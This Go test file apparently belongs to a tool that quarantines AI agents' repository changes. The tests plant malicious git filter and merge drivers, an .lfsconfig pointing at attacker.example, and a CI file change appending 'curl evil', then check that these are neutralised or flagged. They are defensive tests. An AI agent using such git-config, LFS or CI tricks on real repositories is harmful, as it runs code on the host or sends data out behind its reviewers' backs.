package gitlease

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/git-lease/git-lease/refs/refstest"
)

// TestMaterializingAResultRunsNoHostFilter configures, in the test
// repository's own .git/config, a filter and a merge driver that leave a
// marker when they run, on a base whose own .gitattributes routes *.bin
// through them (the user's set-up, as with git-lfs). An agent's .bin files
// then go through review (the worktree checkout), a declared check (its
// seed), apply onto the checked-out branch, rebase onto a moved branch and
// apply again: no driver runs, and every file holds the agent's bytes.
// Before git-lease neutralised drivers, the review checkout alone ran the
// filter.
func TestMaterializingAResultRunsNoHostFilter(t *testing.T) {
	repo, dir := sandboxRepo(t, map[string]string{".gitattributes": "*.bin filter=evil merge=evil\n", "a.txt": "a\n"}, `checks = ["cat x.bin"]`+"\n")
	marker := filepath.Join(t.TempDir(), "ran")
	for _, kv := range [][2]string{{"filter.evil.smudge", "touch " + marker + "; cat"}, {"filter.evil.clean", "touch " + marker + "; cat"},
		{"filter.evil.required", "true"}, {"merge.evil.driver", "touch " + marker}} {
		refstest.Git(t, dir, "config", kv[0], kv[1])
	}
	ran := func(step string) {
		t.Helper()
		if _, err := os.Stat(marker); err == nil {
			t.Fatalf("%s ran the host's filter or merge driver", step)
		}
	}
	ctx := context.Background()
	x := reviewLease(t, repo, "echo agent > x.bin; mkdir -p sub; echo nested > sub/y.bin")
	ran("review")
	if len(x.Lease.Result.Checks) != 1 || !x.Lease.Result.Checks[0].Passed {
		t.Fatalf("check: %+v", x.Lease.Result.Checks)
	}
	if b, _ := os.ReadFile(filepath.Join(x.Worktree(), "x.bin")); string(b) != "agent\n" {
		t.Fatalf("review worktree x.bin = %q", b)
	}
	refstest.Write(t, dir, map[string]string{"a.txt": "moved\n"})
	refstest.Git(t, dir, "-c", "filter.evil.clean=cat", "-c", "filter.evil.smudge=cat", "commit", "-qam", "moved")
	os.Remove(marker)
	y, err := Rebase(ctx, x, "", io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	ran("rebase")
	if y.Lease.State != Review {
		t.Fatalf("rebased lease is %s (%s)", y.Lease.State, y.Lease.Reason)
	}
	if err := Apply(ctx, y, ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	ran("apply")
	for name, want := range map[string]string{"x.bin": "agent\n", "sub/y.bin": "nested\n", "a.txt": "moved\n"} {
		if b, _ := os.ReadFile(filepath.Join(dir, name)); string(b) != want {
			t.Errorf("checkout %s = %q after apply, want %q", name, b, want)
		}
	}
}

// TestAQuarantinedResultStaysReviewable: the attack (a nested
// .gitattributes routing *.bin through git-lfs and a .lfsconfig naming the
// agent's URL) is quarantined for protected paths, yet its patch is in the
// log for git lease diff, next to the legitimate change, and nothing of it
// is materialized. Before, the quarantined lease had no patch ("no such
// file in the lease log").
func TestAQuarantinedResultStaysReviewable(t *testing.T) {
	repo, _ := sandboxRepo(t, map[string]string{"a.txt": "a\n"}, "")
	x, out := runAgent(t, repo, `mkdir -p sub; echo '*.bin filter=lfs' > sub/.gitattributes
printf '[lfs]\n\turl = http://attacker.example/lfs\n' > .lfsconfig; echo fixed > a.txt`)
	if x.Lease.State != Quarantined {
		t.Fatalf("lease is %s (%s):\n%s", x.Lease.State, x.Lease.Reason, out)
	}
	var paths []string
	for _, f := range x.Lease.Findings {
		paths = append(paths, f.Rule+" "+f.Path)
	}
	if got := strings.Join(paths, ", "); got != "protected-path .lfsconfig, protected-path sub/.gitattributes" {
		t.Fatalf("findings: %s", got)
	}
	patch, err := x.Patch()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"+++ b/sub/.gitattributes", "+++ b/.lfsconfig", "+fixed"} {
		if !strings.Contains(string(patch), want) {
			t.Fatalf("the stored patch lacks %q:\n%s", want, patch)
		}
	}
	if tip, _ := repo.Ref(x.Lease.ID.BranchRef()); tip.String() != x.Lease.Base {
		t.Fatalf("the review branch moved to %s", tip)
	}
	// The review worktree may hold the base (checked out while the agent
	// worked), never the result.
	if b, err := os.ReadFile(filepath.Join(x.Worktree(), "a.txt")); err == nil && string(b) != "a\n" {
		t.Fatalf("the quarantined result was checked out: a.txt = %q", b)
	}
	if _, err := os.Lstat(filepath.Join(x.Worktree(), ".lfsconfig")); err == nil {
		t.Fatal("the quarantined result was checked out: .lfsconfig is there")
	}
}

// A file that the base's .gitlab-ci.yml includes is CI configuration too:
// changing it is a protected-path finding, as changing .gitlab-ci.yml is.
func TestGitLabIncludesAreProtected(t *testing.T) {
	repo, _ := sandboxRepo(t, map[string]string{
		".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
		"ci/build.yml":   "build:\n  script: make\n",
		"ci/notes.txt":   "not included\n",
	}, "")
	x, out := runAgent(t, repo, "echo '  after_script: curl evil' >> ci/build.yml; echo more >> ci/notes.txt")
	if x.Lease.State != Quarantined || len(x.Lease.Findings) != 1 || x.Lease.Findings[0].Path != "ci/build.yml" {
		t.Fatalf("lease %s, findings %+v:\n%s", x.Lease.State, x.Lease.Findings, out)
	}
	if !slices.Contains(x.Lease.Policy.Result.Protected, "ci/build.yml") {
		t.Fatalf("the recorded policy does not protect the include: %v", x.Lease.Policy.Result.Protected)
	}
}
